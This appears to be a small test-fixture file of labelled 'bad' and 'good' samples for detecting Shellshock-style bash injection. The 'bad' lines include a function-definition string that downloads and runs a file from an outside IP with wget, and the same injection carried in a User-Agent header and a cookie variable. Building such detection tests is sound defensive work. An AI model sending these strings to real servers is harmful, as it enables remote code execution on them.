# bad: as it stands in a log
() { :;}; /bin/sh -c "wget http://203.0.113.7/z; sh z"
# bad: in a header
curl -A '() { :; }; /bin/ping -c 3 203.0.113.7' http://shop.example/cgi-bin/status
# bad: in a variable
export HTTP_COOKIE='() { :;}; id > /tmp/who'
# good: nearly: a function
ignored() { :; }; ping -c 3 gateway.example
# good: nearly: a header with braces
curl -H 'X-Filter: {"a": "b"};' http://shop.example/
# good: a function that is exported
greet() { echo hello; }; export -f greet
